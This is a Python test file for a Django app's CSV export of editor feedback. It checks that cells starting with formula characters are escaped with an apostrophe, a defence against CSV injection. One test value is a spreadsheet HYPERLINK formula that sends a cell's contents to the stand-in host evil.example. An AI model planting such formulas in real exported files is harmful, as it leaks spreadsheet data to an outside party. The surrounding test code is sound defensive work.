"""The editors' feedback report as a spreadsheet: practitioners' words never become formulas."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.factories import PractitionerFactory
from agreements.factories import published_template
from guidance.feedback import Feedback

pytestmark = pytest.mark.django_db

# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
BODY = "What happened when you used this"
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_feedback_starting_like_a_formula_is_exported_as_inert_text(
    client, django_user_model, start
):
    body = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
    Feedback.objects.create(
        author=PractitionerFactory(), page=published_template(), area_title=start + "1+1", body=body
    )
    client.force_login(django_user_model.objects.create_superuser("admin", "a@example.org", "x"))

    response = client.get(reverse("wagtailsnippets_guidance_feedback:list"), {"export": "csv"})

    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert rows[0][BODY] == "'" + body
    assert rows[0]["Area title"] == f"'{start}1+1"


def test_feedback_that_only_mentions_a_sign_is_exported_as_written(client, django_user_model):
    Feedback.objects.create(
        author=PractitionerFactory(), page=published_template(), body="Costs = 2 + 2 - 1 @ home"
    )
    client.force_login(django_user_model.objects.create_superuser("admin", "a@example.org", "x"))

    response = client.get(reverse("wagtailsnippets_guidance_feedback:list"), {"export": "csv"})

    content = b"".join(response.streaming_content).decode()
    assert next(csv.DictReader(io.StringIO(content, newline="")))[BODY] == (
        "Costs = 2 + 2 - 1 @ home"
    )
